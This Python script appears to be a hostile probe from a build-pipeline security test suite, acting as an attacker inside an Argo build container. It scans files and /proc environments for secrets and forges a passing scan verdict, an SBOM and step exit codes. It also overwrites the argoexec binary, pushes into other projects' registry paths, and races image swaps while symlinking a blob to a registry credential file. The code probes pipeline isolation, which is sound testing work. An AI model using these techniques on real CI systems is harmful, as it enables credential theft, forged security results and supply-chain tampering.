"""What a stranger does who owns the container of the build: looks for secrets, and forges whatever others may read.

Runs there, with that container's Python, and not in the tests.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import tarfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

HERE = Path(__file__).parent
ARGO, WORKSPACE = Path("/var/run/argo"), Path("/workspace")
PLACES = ("/run", "/tmp", "/etc", "/root", "/home", "/var/lib/argosy", "/var/tmp", "/workspace", "/var/run/argo")
LARGE_BYTES = 4 * 1024**2
WAIT_SECONDS = 120


def main() -> None:
    wanted = json.loads((HERE / "wanted.json").read_text())
    look(wanted)
    forge(wanted)
    push(wanted)
    with tarfile.open(HERE / "forged.tar") as forged:
        forged.extractall(HERE)
    shutil.rmtree(WORKSPACE / "layout", ignore_errors=True)
    shutil.copytree(HERE / "one", WORKSPACE / "layout")
    end("build")  # `stage` waits for this, and begins while we are here
    swap(is_torn=wanted["is_torn"])
    # What buildah makes of the line comes afterwards, into a place that is clear.
    shutil.rmtree(WORKSPACE / "layout", ignore_errors=True)
    print("DONE", flush=True)


# --- what must not be there ---


def look(wanted: dict) -> None:
    # Turned around, so that this very list is not what is found.
    secrets = [text[::-1].encode() for text in wanted["secrets"]]
    paths = [path for place in PLACES for path in files(place)]
    paths += [path for name in ("environ", "cmdline", "mountinfo") for path in Path("/proc").glob(f"[0-9]*/{name}")]
    print("LOOKED into", sum(map(tell(secrets), paths)), "files", flush=True)
    for path in ("/var/run/secrets/kubernetes.io", "/run/secrets/argosy"):
        if Path(path).exists():
            print("FOUND", path, flush=True)


def files(place: str) -> Iterator[Path]:
    for folder, folders, names in os.walk(place):
        # Neither our own luggage nor what buildah shows the line as its root.
        folders[:] = [name for name in folders if name not in {"hostile", "overlay", "rootfs"}]
        yield from (path for name in names if os.path.isfile(path := Path(folder, name)))  # noqa: PTH113  # no error


def tell(secrets: list[bytes]) -> Callable[[Path], bool]:
    def told(path: Path) -> bool:
        try:
            with path.open("rb") as file:
                content = file.read(LARGE_BYTES)
        except OSError:
            return False
        if any(secret in content for secret in secrets):
            print("FOUND a secret in", path, flush=True)
        return True

    return told


# --- what others may read ---


def forge(wanted: dict) -> None:
    pushed = json.dumps({"image": wanted["victim"], "digest": "sha256:" + "0" * 64})
    verdict = json.dumps({"verdict": "pass", "counts": {}, "findings": [], "digest": "sha256:" + "0" * 64})
    sbom = json.dumps({"bomFormat": "CycloneDX", "components": [{"type": "library", "name": "forged-by-hostile"}]})
    for name, text in (("pushed.json", pushed), ("findings.json", verdict), ("sbom.cdx.json", sbom)):
        (WORKSPACE / name).write_text(text)
    for line in (pushed, verdict):
        print(line, flush=True)
    for step in ("push", "publish", "scan", "attach", "main"):
        end(step)
    for output in ("held", "image", "commit", "repo-url", "standing", "request"):
        path = ARGO / "outputs" / "parameters" / "workspace" / "outputs" / output
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(wanted["victim"])
    # Whoever starts it from now on starts this.
    mine = ARGO / "mine"
    mine.write_text("#!/bin/sh\necho HOSTILE RAN\nexit 0\n")
    mine.chmod(0o755)
    mine.rename(ARGO / "argoexec")


def push(wanted: dict) -> None:
    """Straight into the registry: under another's name, and into a build's staging place."""
    host, _, folder = wanted["prefix"].rstrip("/").partition("/")
    for name in (f"{folder}/victim", f"{folder}/staging/build-victim", f"{folder}/{HERE.name}"):
        connection = http.client.HTTPConnection(host, timeout=20)
        connection.request("POST", f"/v2/{name}/blobs/uploads/", headers={"Content-Length": "0"})
        status = connection.getresponse().status
        print("PUSHED" if status < 400 else "REFUSED", status, name, flush=True)
        connection.close()


def end(step: str) -> None:
    """What Argo's own program writes once a step has ended well."""
    folder = ARGO / "ctr" / step
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "exitcode").write_text("0")


def swap(*, is_torn: bool) -> None:
    """One image for another, again and again, until `stage` has ended; torn: also half of one, and links."""
    deadline = time.monotonic() + WAIT_SECONDS
    turn = 0
    while not (ARGO / "ctr" / "stage" / "exitcode").exists() and time.monotonic() < deadline:
        turn += 1
        put("two" if turn % 2 else "one")
        if is_torn and turn % 3 == 0:
            tear()
        time.sleep(0.001)
    print("SWAPPED", turn, "times", flush=True)


def put(name: str) -> None:
    for path in (HERE / name / "blobs" / "sha256").iterdir():
        exchange(path, WORKSPACE / "layout" / "blobs" / "sha256" / path.name)
    exchange(HERE / name / "index.json", WORKSPACE / "layout" / "index.json")


def tear() -> None:
    blob = next((WORKSPACE / "layout" / "blobs" / "sha256").iterdir())
    blob.unlink()
    blob.symlink_to("/run/secrets/argosy/staging-write/auth.json")


def exchange(source: Path, target: Path) -> None:
    # Written elsewhere in the workspace: a name that comes and goes among the blobs would tear what `stage` takes.
    new = HERE / "new"
    shutil.copyfile(source, new)
    new.rename(target)


main()
